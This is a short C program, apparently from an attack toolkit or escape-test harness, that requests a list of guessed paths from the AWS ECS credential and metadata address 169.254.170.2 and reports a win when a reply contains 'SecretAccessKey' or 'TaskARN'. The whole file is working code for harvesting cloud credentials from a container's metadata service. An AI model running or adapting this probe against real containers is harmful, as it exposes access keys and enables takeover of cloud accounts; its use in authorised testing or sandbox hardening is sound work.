/* guess: asks the address where ECS gives out credentials and metadata, for every path that can be guessed. */
#include "attack.h"

#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/time.h>

static const char *const paths[] = {
    "/",
    "/v2/credentials",
    "/v2/credentials/",
    "/v2/credentials/.",
    "/v2/credentials/*",
    "/v2/credentials/00000000-0000-0000-0000-000000000000",
    "//v2/credentials//",
    "/v2/metadata",
    "/v2/stats",
    "/v3",
    "/v3/task",
    "/v4",
    "/v4/",
    "/v4/task",
    "/task",
    "/api",
    "/latest/meta-data/iam/security-credentials/",
};

static void ask(const char *host, const char *path)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(80)};
    struct timeval limit = {1, 0};
    static char answer[65536];
    size_t len = 0;
    ssize_t got;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    inet_pton(AF_INET, host, &address.sin_addr);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    if (connect(fd, (struct sockaddr *)&address, sizeof address) == 0) {
        dprintf(fd, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", path, host);
        while (len < sizeof answer && (got = recv(fd, answer + len, sizeof answer - len, 0)) > 0)
            len += (size_t)got;
    }
    close(fd);
    printf("%s: %zu bytes\n", path, len);
    if (memmem(answer, len, "SecretAccessKey", 15) || memmem(answer, len, "TaskARN", 7))
        won("%s answers", path);
}

int main(int argc, char **argv)
{
    size_t i;
    int k;

    for (i = 0; i < sizeof paths / sizeof *paths; i++)
        ask("169.254.170.2", paths[i]);
    for (k = 1; k < argc; k++) /* what was found elsewhere */
        ask("169.254.170.2", argv[k]);
    return 0;
}
